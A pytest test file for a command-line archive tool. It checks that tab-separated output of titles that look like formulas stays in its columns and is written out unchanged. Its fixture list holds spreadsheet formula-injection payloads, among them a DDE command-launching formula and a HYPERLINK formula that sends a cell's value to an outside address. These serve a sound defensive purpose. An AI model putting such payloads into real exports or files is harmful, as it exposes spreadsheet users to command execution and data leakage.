"""Lines with tabs, as a spreadsheet opens them: a value is one cell, and is what the archive has.

A spreadsheet may take a cell that begins with `=` for a formula. These lines are for programs, and
so no sign is put before it; docs/terminal.md says how to have one.
"""

import csv
import io
import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from backissue.errors import Exit
from tests.conftest import Trials
from tests.reliability.children import run, sound

# What spreadsheets read as formulas, and what would begin a cell or a row.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://e.org/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    '"=1+1"',
    '"',
    "x\t=1+1",
    "x\r=1+1",
    "x\n=1+1",
    "x\x0b=1+1",
    "x\x85=1+1",
    "x\u2028=1+1",
    "x;=1+1",
    "x,=1+1",
    "\t=1+1",
)
# How many cells a row of each has.
LISTS: Mapping[tuple[str, ...], int] = {
    ("issues",): 4,
    ("search", "sluices", "-n", "60", "--brief"): 3,
    ("publications",): 8,
    ("related", "100.1", "-n", "60"): 0,
    ("why", "100..130", "--thesis"): 0,
    ("missing",): 4,
    ("log",): 4,
    ("repairs", "100..130"): 0,
    ("show", "100", "--provenance"): 0,
    ("config",): 4,
    ("searches",): 2,
}


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sheets")
    items = [
        {
            "id": str(number),
            "title": f"Sheets {number}: {formula}",
            "url": f"https://e.org/{number}",
            "date_published": "2024-01-02T00:00:00Z",
            "content_text": f"{formula}\n\nThe sluices {number} were shut, as was weir {number}."
            f"\n\nWhy this matters: {formula}\n",
        }
        for number, formula in enumerate(FORMULAS, start=100)
    ]
    about = {"version": "https://jsonfeed.org/version/1.1", "title": "=Sheets()", "items": items}
    (folder / "=1\t=1\n=2.json").write_text(json.dumps(about), encoding="utf-8")
    made = folder / "archive"
    taken = run("--archive", made, "ingest", folder / "=1\t=1\n=2.json")
    assert sound(taken, Exit.OK), taken
    for number, formula in enumerate(FORMULAS, start=100):
        sound(run("--archive", made, "set", str(number), f"title={formula}"), Exit.OK, Exit.USAGE)
    sound(run("--archive", made, "search", "=sluices", "--save", "sheet"), Exit.OK)
    return made


def rows(archive: Path, *words: str) -> list[list[str]]:
    """What a command writes to a pipe, as a program for tables reads it, without quotes."""
    done = sound(run("--archive", archive, *words), Exit.OK, Exit.NOTHING_FOUND, Exit.FINDINGS)
    text = done.stdout.decode("utf-8")
    assert text.isprintable() or not set(text) & set("\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029")
    lines = io.StringIO(text, newline="")
    return list(csv.reader(lines, delimiter="\t", quoting=csv.QUOTE_NONE))


@pytest.mark.promise(
    "In lines with tabs, no value of a source begins a cell or a row of its own, or an address:"
    " every row has its columns."
)
@pytest.mark.parametrize("words", LISTS, ids=" ".join)
def test_no_value_begins_a_cell(archive: Path, words: tuple[str, ...], trials: Trials) -> None:
    found = rows(archive, *words)
    columns = LISTS[words]
    assert not columns or {len(row) for row in found} <= {columns}, found
    if words[0] in {"issues", "search"}:
        assert len(found) == len(FORMULAS)
        # The first cell is an address, which is no formula.
        assert all(row[0][0].isalnum() for row in found), found
    trials.did(len(found), "rows")


@pytest.mark.promise("A value is written to a pipe as the archive has it, also one like a formula.")
def test_a_value_like_a_formula_is_what_it_was(archive: Path, trials: Trials) -> None:
    done = sound(run("--archive", archive, "issues", "--json"), Exit.OK)
    known = {issue["id"]: issue["title"] for issue in json.loads(done.stdout)["issues"]}
    assert sum(title[0] in "=+-@" for title in known.values()) >= 6, known
    listed = {row[0]: row[3] for row in rows(archive, "issues")}
    formatted = {row[0]: row[1] for row in rows(archive, "issues", "--format", "{id}\\t{title}")}
    assert listed == formatted
    assert listed == {ref: " ".join(title.split()) for ref, title in known.items()}
    # What docs/terminal.md says to write for a spreadsheet.
    marked = rows(archive, "issues", "--format", "{id}\\t'{title}")
    assert {row[0]: row[1] for row in marked} == {ref: f"'{one}" for ref, one in listed.items()}
    trials.did(len(listed), "values")
